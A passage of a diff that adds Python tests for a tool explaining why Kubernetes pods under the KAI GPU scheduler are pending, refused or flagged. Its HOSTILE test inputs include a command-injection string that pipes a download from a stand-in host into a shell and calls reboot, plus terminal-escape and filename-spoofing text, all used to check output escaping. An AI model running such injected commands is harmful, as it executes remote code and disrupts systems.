@@ -1,0 +1,841 @@
+"""The causes that no recording has, and what must hold for every pod."""
+
+import json
+from collections.abc import Mapping
+from typing import Any
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from console.cluster.facts import NOT_READ, Fact, Why
+from console.why.core import explain, find_cause
+from console.why.evidence import AgentFigures, PodEvidence, PolicyDecision
+from console.why.explanation import Code, Explanation
+from gpuagent.api_types import ApiAmount, ApiHolding, ApiPod, ApiVerdict
+from gpuagent.verdicts.flag_reasons import FlagReason
+from kai import keys
+from kube.kinds import SHARDS, VOLUME_CLAIMS, Event, Pod, PodOwner
+from tests.support.why_evidence import (
+    FORBIDDEN,
+    GONE,
+    GROUP,
+    NAME,
+    PARTIAL,
+    UNSERVED,
+    at,
+    decode_owner,
+    make_bind_request,
+    make_event,
+    make_evidence,
+    make_node,
+    make_pod,
+    make_pod_group,
+    make_queue,
+    make_reservation,
+)
+
+_NOT_MET = "Scheduling conditions were not met for pod team/train-0:\n"
+_HEAD = "no nodes with enough resources were found: "
+_NO_GPUS = "2 node(s) didn't have enough resources: GPUs."
+_TAINTS = "3 node(s) had untolerated taint(s)."
+_TOO_SMALL = (
+    f"{_NOT_MET}MaxNodePoolResources: The pod team/train-0 requires GPU: 0.5, CPU: 0 (cores), memory: 512 (GB),"
+    " pods: 1. Max memory resources available in a single node in the default node-pool is topped at 64 GB.\n"
+)
+_ZERO = (
+    "PodSchedulingErrors: Resources were found for 0 pods while 4 are required for gang scheduling. Additional"
+    " pods cannot be scheduled due to: "
+)
+_INCOMPLETE = "Job is not ready for scheduling. Waiting for 4 pods, currently 2 exist, 1 are gated"
+_POOL = {keys.NODE_POOL_LABEL: "h100"}
+_RUNS: dict[str, Any] = {"node": "node-1", "phase": "Running"}
+
+
+def _cause(evidence: PodEvidence) -> tuple[Code, str]:
+    cause = explain(evidence).cause
+    return cause.code, cause.sentence
+
+
+def _acts(evidence: PodEvidence) -> list[str]:
+    return [remedy.text for remedy in explain(evidence).cause.remedies]
+
+
+def _owner(kind: str = "Deployment", name: str = "web", **fields: Any) -> PodOwner:
+    return decode_owner(json.dumps({"kind": kind, "metadata": {"name": name}} | fields).encode())
+
+
+# --- what KAI does not tell ---
+
+
+def _gpus(amount: str) -> dict[str, Any]:
+    return {"containers": [{"name": "main", "resources": {"limits": {keys.GPU_RESOURCE: amount}}}]}
+
+
+def _shards(pool: str) -> Any:
+    spec = {"metadata": {"name": "a"}, "spec": {"partitionLabelValue": pool}}
+    return [SHARDS.decode(json.dumps(spec).encode())]
+
+
+@pytest.mark.parametrize(
+    ("known", "unknown"),
+    [
+        *(
+            ({}, {name: unread})
+            for name in ("pod_group", "bind_request", "pod_events", "group_events")
+            for unread in (FORBIDDEN, PARTIAL, NOT_READ)
+        ),
+        ({}, {"queues": {"vision": FORBIDDEN}}),
+        ({}, {"queues": {"vision": make_queue(), "research": FORBIDDEN}}),
+        ({"labels": _POOL, "shards": _shards("h100")}, {"shards": FORBIDDEN}),
+    ],
+)
+def test_the_scheduler_is_not_blamed_while_another_cause_may_be_true(
+    known: dict[str, Any], unknown: dict[str, Any]
+) -> None:
+    """KAI v0.9.8 says nothing about a queue that does not exist, and no release about a node pool."""
+    labels = known.pop("labels", {})
+    assert _cause(make_evidence(make_pod(labels=labels), **known))[0] is Code.SCHEDULER_SILENT
+    cause = find_cause(make_evidence(make_pod(labels=labels), **known | unknown))
+    assert cause.code is Code.UNDECIDED
+    assert "not all that may explain it could be read" in cause.sentence
+    pool = ", node pool h100" if labels else ""
+    assert cause.remedies[0].text == f"Check the names that the pod uses: queue vision{pool}."
+    assert not any("start KAI's" in remedy.text for remedy in cause.remedies)
+
+
+@pytest.mark.parametrize(
+    "unknown", [{"pod_events": FORBIDDEN}, {"shared_gpu_pods": FORBIDDEN}, {"shared_gpu_pods": PARTIAL}]
+)
+def test_the_binder_is_not_blamed_while_another_cause_may_be_true(unknown: dict[str, Any]) -> None:
+    fields: dict[str, Any] = {"bind_request": make_bind_request(), "shared_gpu_pods": []}
+    assert _acts(make_evidence(**fields))[-1] == "Administrator: start KAI's binder again."
+    code, sentence = _cause(make_evidence(**fields | unknown))
+    assert code is Code.UNDECIDED
+    assert sentence.startswith(
+        "KAI chose a node, and its binder has not answered for 60 s, and not all that may"
+    )
+
+
+def test_the_pod_grouper_is_not_blamed_while_its_words_are_unknown() -> None:
+    pod, acts = make_pod(grouped=False), []
+    for events in ((), FORBIDDEN):
+        evidence = make_evidence(pod, pod_group=NOT_READ, pod_events=events)
+        assert _cause(evidence)[0] is Code.POD_GROUP_MISSING
+        acts += _acts(evidence)
+    assert acts == ["Administrator: start KAI's pod-grouper again.", "Read the pod's Events."]
+
+
+def test_a_reservation_pod_is_not_missing_in_a_part_of_the_list() -> None:
+    runs = make_pod(**_RUNS, labels={keys.GPU_GROUP: "group-1"})
+    others = (make_reservation("group-2"),)
+    assert _cause(make_evidence(runs, shared_gpu_pods=others))[0] is Code.NO_RESERVATION
+    part = Fact(others, Why.PARTIAL, "not read whole")
+    assert _cause(make_evidence(runs, shared_gpu_pods=part))[0] is Code.RUNNING
+
+
+@pytest.mark.parametrize("fields", [{"nodes": FORBIDDEN}, {"nodes": PARTIAL}, {"nodes": [make_node(gpus=0)]}])
+def test_no_node_offers_gpus_only_if_all_nodes_were_read(fields: dict[str, Any]) -> None:
+    words = "Resources were not found for pod team/train-0 due to: Unable to schedule pod"
+    code = Code.NO_GPU_NODES if isinstance(fields["nodes"], list) else Code.NO_GPU_FITS
+    assert _cause(make_evidence(make_pod(unschedulable=words), **fields))[0] is code
+
+
+# --- room ---
+
+_HOLDER = make_pod(name="other", fraction="0.3", labels={keys.GPU_GROUP: "group-1"}, node="node-1")
+_FULL = [
+    make_pod(name=name, fraction="0.5", labels={keys.GPU_GROUP: "group-1"}, node="node-1") for name in "ab"
+]
+_PIECE = "no GPU has that much free in one piece"
+
+
+# --- other schedulers, gates, guard, vCluster ---
+
+
+def _decided(now_reason: str, now: str = "left alone: …") -> PolicyDecision:
+    return PolicyDecision(now_reason=now_reason, now=now)
+
+
+@pytest.mark.parametrize(
+    ("decision", "labels", "act"),
+    [
+        (_decided("opted-out"), {}, "Remove the label kaishare.dev/inject from the pod's template."),
+        (_decided("mode-off"), {}, "Policy owner: set another kaishare.dev/mode on the namespace, then"),
+        (_decided("own-share", "changed (scheduler)"), {}, "Delete the pod and let it be created again"),
+        (_decided("own-share", "would be changed (mode observe)"), {}, "Set schedulerName: kai-scheduler"),
+        (PolicyDecision(reason="own-share"), {}, "Set schedulerName: kai-scheduler"),
+        (GONE, {keys.QUEUE_LABEL: "vision"}, "Set schedulerName: kai-scheduler"),
+        (GONE, {}, "Ask an administrator for a queue"),
+        (NOT_READ, {}, "Set schedulerName: kai-scheduler"),
+    ],
+)
+def test_the_act_for_a_pod_outside_kai_comes_from_the_decision(
+    decision: Any, labels: dict[str, str], act: str
+) -> None:
+    pod = make_pod(scheduler="default-scheduler", grouped=False, metadata={"labels": labels}, **_RUNS)
+    evidence = make_evidence(pod, decision=decision)
+    assert _cause(evidence)[0] is Code.OTHER_SCHEDULER
+    assert _acts(evidence)[0].startswith(act)
+
+
+_QUEUE = (
+    'queue "other" is not a queue of namespace team (vision): set the label kai.scheduler/queue of the pod to that'
+    " value, and remove it from objects that own the pod"
+)
+_PRIORITY = (
+    'priority and preemptibility stay while the group has pods (now "train" "", wanted "inference" ""): restore'
+    " the labels, or delete all pods of the workload first"
+)
+_STAYS = "a pod stays in its PodGroup: restore its owner references, or delete and recreate the pod"
+
+
+def refusal_event(words: str, *, component: str = "pod-grouper", **fields: Any) -> Event:
+    """Return the Event of KAI's pod-grouper about a refusal."""
+    message = (
+        f'podgroups.scheduling.run.ai "{GROUP}" is forbidden: ValidatingAdmissionPolicy'
+        f" 'kaishare-guard-podgroups' with binding 'kaishare-guard-podgroups' denied request: kaishare-guard: {words}"
+    )
+    return make_event("PodGrouperWarning", fields.pop("message", message), component=component, **fields)
+
+
+def _ungrouped(*events: Event, **fields: Any) -> PodEvidence:
+    pod = make_pod(grouped=False, metadata={"uid": "uid-of-train-0"})
+    return make_evidence(pod, **{"pod_group": GONE, "pod_events": events, **fields})
+
+
+@pytest.mark.parametrize(
+    ("words", "remedy"),
+    [
+        (_QUEUE, "Set the label kai.scheduler/queue in the pod's template to a queue of its namespace"),
+        (_PRIORITY, "Restore the labels priorityClassName and kai.scheduler/preemptibility of the workload."),
+        (_STAYS, "Restore the pod's owner references."),
+        ("a rule of a release to come: do this", "Undo what these words name."),
+    ],
+)
+@pytest.mark.parametrize(
+    "absent", [{}, {"pod_group": UNSERVED, "bind_request": UNSERVED}], ids=["host", "vCluster"]
+)
+def test_the_guards_sentence_is_the_cause(words: str, remedy: str, absent: dict[str, Any]) -> None:
+    evidence = _ungrouped(refusal_event(words), **absent)
+    assert _cause(evidence) == (Code.GROUP_REFUSED, f"the guard refuses the pod's PodGroup: {words}")
+    assert _acts(evidence)[0].startswith(remedy)
+
+
+@pytest.mark.parametrize("words", [_PRIORITY, _STAYS])
+def test_a_refused_change_of_a_running_pods_group_is_a_note(words: str) -> None:
+    pod = make_pod(**_RUNS, metadata={"uid": "uid-of-train-0"})
+    answer = explain(make_evidence(pod, pod_events=[refusal_event(words)]))
+    assert answer.is_fine
+    (note,) = [finding for finding in answer.findings if finding.code is Code.GROUP_UNCHANGED]
+    assert note.sentence == f"the guard keeps the pod's PodGroup as it is: {words}"
+    assert "delete" not in note.remedies[0].text
+
+
+# --- no pod ---
+
+
+@pytest.mark.parametrize("events", [{"group_events": FORBIDDEN}, {"pod_events": PARTIAL}])
+def test_a_pod_without_events_may_have_had_some(events: dict[str, Any]) -> None:
+    assert _cause(make_evidence(GONE))[1].endswith("no Event about it")
+    assert _cause(make_evidence(GONE, **events))[1].endswith("not all Events could be read")
+    existed = {"pod_events": [make_event("Started", "main")]}
+    assert _cause(make_evidence(GONE, **existed))[1].endswith("no Event tells of an eviction by KAI")
+    unread = make_evidence(GONE, **existed | {"group_events": FORBIDDEN})
+    assert _cause(unread) == (
+        Code.POD_DELETED,
+        "the pod existed and is gone, and not all Events could be read",
+    )
+
+
+@pytest.mark.parametrize(
+    ("refused", "replicas", "code"),
+    [(5, 3, Code.RESOURCE_QUOTA_EXCEEDED), (95, 3, Code.RUNNING), (5, 0, Code.RUNNING)],
+)
+def test_a_running_pod_does_not_hide_that_a_further_one_is_refused(
+    refused: float, replicas: int, code: Code
+) -> None:
+    words = 'pods "web-x" is forbidden: exceeded quota: gpus, requested: requests.nvidia.com/gpu=1'
+    evidence = make_evidence(
+        make_pod(whole=1, **_RUNS),
+        kind="Deployment",
+        name="web",
+        workload=_owner(spec={"replicas": replicas}),
+        creation_events=[make_event("FailedCreate", words, kind="ReplicaSet", name="web-7f6", age=refused)],
+    )
+    answer = explain(evidence)
+    assert (answer.cause.code, answer.is_fine) == (code, code is Code.RUNNING)
+    if code is not Code.RUNNING:
+        assert answer.cause.sentence.startswith("a further pod of Deployment web was refused 5 s ago: ")
+
+
+# --- a pod that has a node ---
+
+
+def _status(kind: str = "main", **status: Any) -> dict[str, Any]:
+    """Return the fields of a pod with an init container and a container, one of them with this status."""
+    fields: dict[str, Any] = {"phase": "Running", "node": "node-1"}
+    init = [{"name": "wait-for-database", **(status if kind == "init" else {})}]
+    main = [{"name": "main", **(status if kind == "main" else {})}]
+    return fields | {"status": {"initContainerStatuses": init, "containerStatuses": main}, "age": 864_000}
+
+
+_FAILED = {"restartCount": 3, "lastState": {"terminated": {"exitCode": 1}}}
+_UNREADY = {"type": "Ready", "status": "False", "lastTransitionTime": at(600)}
+_OOM = {"terminated": {"exitCode": 137, "reason": "OOMKilled"}}
+_BACK_OFF = {
+    "state": {"waiting": {"reason": "CrashLoopBackOff", "message": "back-off 5m0s"}},
+    "lastState": {"terminated": {"exitCode": 1}},
+}
+_DONE = {"name": "main", "ready": False, "state": {"terminated": {"exitCode": 0}}}
+_LIVES = {"name": "proxy", "ready": True, "state": {"running": {}}}
+
+
+def _unready(*, ready: bool) -> dict[str, Any]:
+    container = {"name": "main", "ready": ready, "state": {"running": {}}}
+    return {**_RUNS, "age": 900, "conditions": [_UNREADY], "containers": [container]}
+
+
+def test_an_init_container_that_runs_is_named_with_its_log() -> None:
+    def initialising(*statuses: dict[str, Any]) -> PodEvidence:
+        containers = [{"name": "proxy", "restartPolicy": "Always"}, {"name": "download"}]
+        spec = {"initContainers": containers, "containers": [{"name": "main"}]}
+        waiting = [{"name": "main", "state": {"waiting": {"reason": "PodInitializing"}}}]
+        status = {"initContainerStatuses": list(statuses)}
+        return make_evidence(make_pod(node="node-1", age=2400, spec=spec, containers=waiting, status=status))
+
+    runs = {"state": {"running": {"startedAt": at(2390)}}, "started": True}
+    waits = {"name": "download", "state": {"waiting": {"reason": "PodInitializing"}}}
+    cause = find_cause(initialising({"name": "proxy", **runs}, {"name": "download", **runs}))
+    assert cause.sentence.startswith("the init container download runs for 40 min, and the pod's containers")
+    commands = [each.command for each in cause.remedies]
+    assert commands == [f"kubectl logs {NAME} --namespace team --container download"]
+    assert (
+        "not started its containers for 40 min" in _cause(initialising({"name": "proxy", **runs}, waits))[1]
+    )
+    unready = {"name": "proxy", **runs, "started": False}
+    assert "container proxy runs for" in _cause(initialising(unready, waits))[1]
+
+
+# --- flags ---
+
+
+def _figures(**verdict: Any) -> AgentFigures:
+    pod = ApiPod(
+        namespace="team",
+        name=NAME,
+        uid="u",
+        shares={"GPU-1": ApiAmount(bytes=8 << 30, source="bind-request")},
+        gpus=[ApiHolding(gpu_uuid="GPU-1", gpu=0, used_bytes=10 << 30)],
+        verdicts=[ApiVerdict(reason="over-share", gpu_uuid="GPU-1", **verdict)],
+    )
+    return AgentFigures(pod=pod, neighbours=1)
+
+
+def _over(gpu: int = 0, age: float = 60) -> Event:
+    text = f"uses 12.0 GiB on GPU {gpu} (GPU-{gpu}), above its share of 10.0 GiB, for 5 min"
+    return make_event("GPUMemoryOverShare", f"{text}; vLLM: set {gpu}. Raise the share.", age=age)
+
+
+def _within(gpu: int = 0, age: float = 30) -> Event:
+    text = f"uses 9.0 GiB on GPU {gpu} (GPU-{gpu}), within its share of 10.0 GiB again"
+    return make_event("GPUMemoryWithinShare", text, age=age)
+
+
+_USES = "uses 10.0 GiB on GPU 0 (GPU-1), above its share of 8.0 GiB, for 60 s"
+_OVER: dict[str, Any] = {
+    "message": _USES,
+    "flagged": True,
+    "lasted_seconds": 60.0,
+    "used_bytes": 10 << 30,
+    "allowed_bytes": 8 << 30,
+}
+
+
+@pytest.mark.parametrize(
+    ("verdict", "events", "act"),
+    [
+        (_OVER | {"first_act": "Lower the option."}, [], "Lower the option."),
+        (
+            _OVER | {"message": f"{_USES}; vLLM: set 1", "first_act": "Lower it."},
+            [_over()],
+            "vLLM: set 1. Lower it.",
+        ),
+        (_OVER, [_over()], "Raise the share."),
+        (_OVER | {"message": None}, [_over()], "vLLM: set 0. Raise the share."),
+        (_OVER, [], "End the violation: the flag clears with usage at or below the share"),
+    ],
+)
+def test_a_flag_is_told_with_figures_and_the_first_act_of_the_agent(
+    verdict: dict[str, Any], events: list[Event], act: str
+) -> None:
+    cause = find_cause(make_evidence(make_pod(**_RUNS), figures=_figures(**verdict), pod_events=events))
+    assert cause.code is Code.FLAGGED
+    assert cause.sentence.startswith("the pod is flagged (over-share): it uses ")
+    assert cause.remedies[0].text.startswith(act)
+    assert cause.details == {"reason": "over-share", "usedBytes": 10.0 * 2**30, "allowedBytes": 8.0 * 2**30}
+
+
+@pytest.mark.parametrize(
+    ("events", "code"),
+    [
+        ([_over()], Code.FLAGGED),
+        ([_over(), _within()], Code.RUNNING),
+        ([_over(0), _over(1), _within(1)], Code.FLAGGED),
+        ([_over(0), _over(1), _within(1), _within(0)], Code.RUNNING),
+    ],
+)
+def test_without_the_agent_the_newest_event_about_each_gpu_tells_of_a_flag(
+    events: list[Event], code: Code
+) -> None:
+    answer = explain(make_evidence(make_pod(**_RUNS), pod_events=events))
+    assert (answer.cause.code, len(answer.findings)) == (code, 1)
+    if code is Code.FLAGGED:
+        assert answer.cause.sentence == "the pod is flagged (over-share): it uses more memory than its share"
+        assert answer.cause.remedies[0].text == "vLLM: set 0. Raise the share."
+
+
+@pytest.mark.parametrize("reason", [reason for reason in FlagReason if reason is not FlagReason.OVER_SHARE])
+def test_a_flag_whose_end_has_no_event_is_told_in_the_past(reason: FlagReason) -> None:
+    event = make_event(reason.event_reason, "is flagged; do this", age=3300, component="kaishare-agent")
+    evidence = make_evidence(make_pod(**_RUNS, age=7200), pod_events=[event])
+    code, sentence = _cause(evidence)
+    assert code is Code.FLAGGED
+    assert sentence.startswith(f"the pod was flagged ({reason.value}) at 2026-05-01 11:05 UTC, because it")
+    assert sentence.endswith("whether it still is cannot be seen without its node's agent")
+    assert _acts(evidence) == ["do this"]
+
+
+def test_flags_are_unknown_without_events_and_agent() -> None:
+    silent: Fact[AgentFigures] = Fact(None, Why.FAILED, "time-out")
+    for figures in (NOT_READ, silent):
+        answer = explain(make_evidence(make_pod(**_RUNS), pod_events=FORBIDDEN, figures=figures))
+        assert (answer.cause.code, answer.is_fine) == (Code.RUNNING, True)
+        assert answer.cause.sentence == (
+            "nothing wrong is seen; the pod has 0.5 of a GPU; its flags are not known, since neither all of its"
+            " Events nor its node's agent could be read"
+        )
+    seen = make_evidence(make_pod(**_RUNS), pod_events=FORBIDDEN, figures=_figures(flagged=False))
+    assert _cause(seen)[1].startswith("nothing is wrong")
+
+
+def test_the_agent_is_believed_before_an_older_event() -> None:
+    evidence = make_evidence(make_pod(**_RUNS), figures=_figures(flagged=False), pod_events=[_over()])
+    code, sentence = _cause(evidence)
+    assert (code, "uses 10.0 GiB of 8.0 GiB on GPU 0" in sentence) == (Code.RUNNING, True)
+
+
+# --- any text ---
+
+_texts = st.text(max_size=200) | st.sampled_from(
+    [
+        "OverLimit: ",
+        "VolumeBinding",
+        "2 node(s) ",
+        "Waiting for ",
+        'denied the request "',
+        "Requested topology ",
+    ]
+)
+
+
+def _check(answer: Explanation) -> None:
+    """Check that an answer is in printable lines of bounded length, and that its commands are harmless."""
+    assert answer.findings
+    for finding in answer.findings:
+        for text in (finding.sentence, *(remedy.text for remedy in finding.remedies)):
+            assert text.isprintable()
+            assert len(text) < 1000
+        for remedy in finding.remedies:
+            assert set(remedy.command) <= set(
+                "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789 -_.,:/=[]{}"
+            )
+    for step in answer.story:
+        assert step.text.isprintable()
+        assert len(step.text) < 700
+
+
+@given(
+    message=st.lists(_texts, max_size=6).map("".join),
+    reason=st.sampled_from(
+        ["BindingError", "NotReady", "Evict", "StaleJob", "SyncError", "GPUMemoryOverShare"]
+    ),
+)
+def test_any_text_leads_to_an_answer_in_lines(message: str, reason: str) -> None:
+    events = [make_event(reason, message)]
+    groups = [make_event(reason, message, kind="PodGroup", name=GROUP)]
+    for pod in (make_pod(unschedulable=message), make_pod(grouped=False), make_pod(**_RUNS), GONE):
+        _check(explain(make_evidence(pod, pod_events=events, group_events=groups, creation_events=events)))
+
+
+HOSTILE = [
+    *(unit * 100_000 for unit in ("Limit is 1 GPUs, currently ", '"', "1 node ", "a quota has reached the")),
+    *(
+        f"{text} " * 20_000
+        for text in ("\x1b[2J\x1b]0;owned\x07", "line\nline", "\u202egpj.exe", "\u200b\x00")
+    ),
+    "Reason: OverLimit, Details: a\n" * 100_000,
+    "$(reboot) `reboot` ; curl example.invalid | sh\n",
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
+def test_a_hostile_text_is_bounded_and_escaped_in_linear_time(text: str) -> None:
+    broken = [{"name": text[:5000], "state": {"waiting": {"reason": "Odd", "message": text}}}]
+    pods: list[Pod | Fact[Any]] = [
+        make_pod(unschedulable=text),
+        make_pod(unschedulable=f"OverLimit: {text}"),
+        make_pod(unschedulable=f"{_HEAD}1 {text}"),
+        make_pod(**_RUNS, containers=broken),
+        GONE,
+    ]
+    refused = [make_event("FailedCreate", f'admission webhook "x.example.com" denied the request: {text}')]
+    group = make_pod_group(queue=text[:5000], priorityClassName=text[:5000])
+    events = [refusal_event(text), make_event("GPUMemoryOverShare", text)]
+    for pod in pods:
+        for each in (events, refused):
+            _check(explain(make_evidence(pod, pod_group=group, creation_events=refused, pod_events=each)))
+
+
+# --- one table of evidence, cause, and words of the cause ---
+
+_Row = tuple[PodEvidence, Code, str]
+
+
+def _of(pod: Mapping[str, Any], **fields: Any) -> PodEvidence:
+    return make_evidence(make_pod(**pod), **fields)
+
+
+def _says(words: str, **fields: Any) -> PodEvidence:
+    """Return the evidence of a pod about which KAI says this."""
+    return _of({"unschedulable": words}, **fields)
+
+
+_SMALL = f"{_HEAD}2 node(s) didn't have enough resources: GPU memory."
+_FULL_NODES = _HEAD + _NO_GPUS
+
+
+def _memory(words: str, mib: str = "50000", **fields: Any) -> PodEvidence:
+    pod = {"unschedulable": words, "fraction": None, "annotations": {keys.GPU_MEMORY: mib}}
+    return _of(pod, **fields)
+
+
+KAIS_WORDS: list[_Row] = [
+    # KAI checks resources first: a node without GPUs lacks them, and a tainted node has room.
+    (_says(_TOO_SMALL), Code.NODE_TOO_SMALL, "512 GB of memory, and no node has more than 64 GB"),
+    (_says("racks: no domains found for the job"), Code.TOPOLOGY_DOES_NOT_FIT, "no domains found"),
+    (_says("rack-1 can allocate only 2 of 4 required pods"), Code.TOPOLOGY_DOES_NOT_FIT, "only 2 of 4"),
+    (_says(f"{_HEAD}{_TAINTS} \n{_NO_GPUS}"), Code.NO_NODE_FITS, "3 node(s) had untolerated taint"),
+    (_says(f"{_HEAD}{_TAINTS} \n2 node(s) didn't match affinity/selector."), Code.NO_NODE_FITS, "affinity"),
+    (_says(f"{_HEAD}{_TAINTS} \n5 non MIG jobs cant run on a node"), Code.NO_NODE_FITS, "non MIG jobs"),
+    (_says(f"{_HEAD}9 lack resources: CPU cores. \n{_NO_GPUS}"), Code.NO_NODE_FITS, "CPU cores"),
+    (_says(f"{_HEAD}1 node(s) had a cold."), Code.NO_NODE_FITS, "1 node(s) had a cold"),
+    (_says(_FULL_NODES), Code.NO_GPU_FITS, "no GPU has that much free in one piece"),
+    (_says(f"{_ZERO}{_HEAD}{_TAINTS}"), Code.TAINT_NOT_TOLERATED, "every node has a taint"),
+    (_memory(_SMALL), Code.GPU_MEMORY_TOO_BIG, "50000 MiB of a GPU, more than any GPU has"),
+    (_memory(f"{_SMALL} \n{_NO_GPUS}"), Code.GPU_MEMORY_TOO_BIG, "more than any GPU has"),
+    (_memory(f"{_SMALL} \n3 didn't have enough resources: GPUs."), Code.NO_GPU_FITS, "in one piece"),
+    (_memory(_SMALL, "1000", nodes=[make_node()]), Code.NO_GPU_FITS, "1000 MiB of a GPU"),
+    (
+        _says("the moon of rivals/secret is in the wrong house"),
+        Code.UNDECIDED,
+        "not placed the pod for 90 s; its last words: the moon of rivals/secret is in the wrong house",
+    ),
+]
+
+
+def _not_ready(age: float = 10) -> list[Event]:
+    return [make_event("NotReady", _INCOMPLETE, kind="PodGroup", name=GROUP, age=age)]
+
+
+def _failed(age: float) -> PodEvidence:
+    """Return the evidence of a binding that began 2 s ago, after an error."""
+    error = make_event("BindingError", "no luck", age=age, component="binder")
+    return _of({}, bind_request=make_bind_request(age=2), pod_events=[error])
+
+
+def _pipelined(age: float) -> PodEvidence:
+    pipelined = make_event("Pipelined", "Pod team/train-0 was pipelined to node node-1", age=age)
+    return _says(_FULL_NODES, pod_events=[make_event("Unschedulable", _FULL_NODES, age=30), pipelined])
+
+
+def _chosen(words: str) -> PodEvidence:
+    """Return the evidence of a pod for which KAI chose a node after it said something else."""
+    events = [make_event("Unschedulable", words, age=60), make_event("Scheduled", "to node-1", age=30)]
+    return _says(words, pod_events=events, pod_group=FORBIDDEN, bind_request=FORBIDDEN)
+
+
+_NO_GPU = {"bind_request": make_bind_request(), "shared_gpu_pods": [make_reservation(gpu="-1")]}
+NOT_TOLD: list[_Row] = [
+    (_of({}), Code.SCHEDULER_SILENT, "has said nothing about the pod for 80 s"),
+    (_of({}, pod_group=make_pod_group(age=3)), Code.SCHEDULER_SILENT, "not looked at the pod yet, 3 s after"),
+    (_of({}, group_events=_not_ready(70)), Code.SCHEDULER_SILENT, "has said nothing"),
+    (
+        _of({}, group_events=_not_ready()),
+        Code.GANG_INCOMPLETE,
+        "only 2 exist, 1 of them with a scheduling gate",
+    ),
+    (_of({"labels": _POOL}, shards=_shards("h100")), Code.SCHEDULER_SILENT, "has said nothing"),
+    (_of({"labels": _POOL}, shards=_shards("a100")), Code.NODE_POOL_WITHOUT_SHARD, "the node pool h100"),
+    (_of({"grouped": False, "age": 4}), Code.POD_GROUP_MISSING, "has not grouped the pod yet, 4 s after"),
+    (_of({}, **_NO_GPU), Code.RESERVATION_NOT_READY, "found no GPU"),
+    (_of({}, bind_request=make_bind_request(age=2)), Code.BINDER_SILENT, "has not answered yet"),
+    (_of({}, bind_request=make_bind_request(reason="no luck")), Code.BINDING_FAILED, "the pod: no luck"),
+    (_failed(20), Code.BINDING_FAILED, "no luck"),
+    (_failed(3000), Code.BINDER_SILENT, "has not answered yet"),
+    (_pipelined(5), Code.WAITING_FOR_EVICTED, "waits until they have ended"),
+    (_pipelined(60), Code.NO_GPU_FITS, "in one piece"),
+    (_chosen(""), Code.UNDECIDED, "KAI chose a node"),
+    (_chosen(_FULL_NODES), Code.UNDECIDED, "KAI chose a node"),
+    # An amount beyond all numbers is no amount.
+    (_of({"fraction": None, "spec": _gpus("1e400")}), Code.SCHEDULER_SILENT, "has said nothing"),
+    (_of({"fraction": None, "spec": _gpus("-1e400")}), Code.SCHEDULER_SILENT, "has said nothing"),
+]
+
+
+def _claims(*phases: str) -> list[Any]:
+    claims = [{"metadata": {"name": "data"}, "status": {"phase": phase}} for phase in phases]
+    return [VOLUME_CLAIMS.decode(json.dumps(claim).encode()) for claim in claims]
+
+
+def _mounts(claims: Any) -> PodEvidence:
+    words = f"{_NOT_MET}VolumeBinding: node(s) had volume node affinity conflict\n"
+    volumes = {"volumes": [{"persistentVolumeClaim": {"claimName": "data"}}]}
+    return _of({"unschedulable": words, "spec": volumes}, claims=claims)
+
+
+CLAIMS: list[_Row] = [
+    (_mounts(_claims()), Code.CLAIM_NOT_BOUND, "data, which does not exist"),
+    (_mounts(_claims("Pending")), Code.CLAIM_NOT_BOUND, "data, which has no volume"),
+    (_mounts(_claims("Bound")), Code.CLAIM_NOT_BOUND, "is not usable: node(s) had volume node affinity"),
+    (_mounts(FORBIDDEN), Code.CLAIM_NOT_BOUND, "data, which is not usable"),
+]
+
+
+def _holder(fraction: str, name: str = "a") -> Pod:
+    return make_pod(name=name, fraction=fraction, labels={keys.GPU_GROUP: "group-1"}, node="node-1")
+
+
+def _room(fraction: str, pods: Any) -> PodEvidence:
+    pod = {"unschedulable": _FULL_NODES, "fraction": fraction}
+    return _of(pod, nodes=[make_node()], shared_gpu_pods=pods)
+
+
+_FULL, _PIECE = [_holder("0.5", "a"), _holder("0.5", "b")], "no GPU has that much free in one piece"
+ROOM: list[_Row] = [
+    # Pods with shares of several GPUs are not listed, so the part is an upper bound.
+    (
+        _room("0.8", [_holder("0.3"), make_reservation()]),
+        Code.NO_GPU_FITS,
+        f"{_PIECE}: the largest free part",
+    ),
+    (_room("0.4", [*_FULL, make_reservation()]), Code.NO_GPU_FITS, "and all GPUs are in use"),
+    (_room("0.4", []), Code.NO_GPU_FITS, "and all GPUs are in use"),
+    # Here it is not known, or KAI knows better.
+    (_room("0.5", [_holder("0.3"), make_reservation()]), Code.NO_GPU_FITS, _PIECE),
+    *(
+        (_room("0.4", pods), Code.NO_GPU_FITS, _PIECE)
+        for pods in (_FULL, [make_reservation()], FORBIDDEN, PARTIAL)
+    ),
+]
+
+
+def _warned(*events: Event) -> _Row:
+    return _ungrouped(*events), Code.POD_GROUP_MISSING, "KAI's pod-grouper"
+
+
+_OTHER = "ValidatingAdmissionPolicy 'other' with binding 'b' denied request: kaishare-guard: x"
+_ELSE = make_event("PodGrouperWarning", "something else", component="pod-grouper", age=1)
+_EXISTS = make_event("PodGrouperWarning", 'podgroups "x" already exists', component="pod-grouper", age=1)
+GUARD: list[_Row] = [
+    # Only the Event of KAI's pod-grouper about this pod is believed; the newest counts, and harmless ones do not.
+    _warned(refusal_event(_QUEUE, component="kubectl")),
+    _warned(refusal_event(_QUEUE, uid="uid-of-another-pod")),
+    _warned(refusal_event(_QUEUE, message=f"denied request: kaishare-guard: {_QUEUE}")),
+    _warned(refusal_event(_QUEUE, message=_OTHER)),
+    _warned(refusal_event(_QUEUE, age=9), _ELSE),
+    _warned(_EXISTS),
+    (_ungrouped(refusal_event(_QUEUE, age=9), _EXISTS), Code.GROUP_REFUSED, "the guard refuses"),
+]
+
+
+def _in_vcluster(pod: Mapping[str, Any], sync_error: str = "") -> PodEvidence:
+    """Return what a tenant sees: pods, Events and conditions, and none of KAI's kinds."""
+    events = [make_event("SyncError", f"Error syncing to host cluster: {sync_error}")] if sync_error else []
+    absent: dict[str, Any] = {"pod_group": UNSERVED, "bind_request": UNSERVED, "queues": {"vision": UNSERVED}}
+    return _of(pod, pod_events=events, **absent)
+
+
+_KAI_DENIED = 'admission webhook "admission.kai-scheduler.svc" denied the request: '
+_OVER_LIMIT = (
+    "OverLimit: vision quota has reached the allowable limit of GPUs. Limit is 1 GPUs, currently 1 GPUs allocated"
+    " and workload requested 0.5 GPUs."
+)
+IN_VCLUSTER: list[_Row] = [
+    (_in_vcluster({"grouped": False}), Code.KAI_NOT_SERVED, "are not on this API server"),
+    (
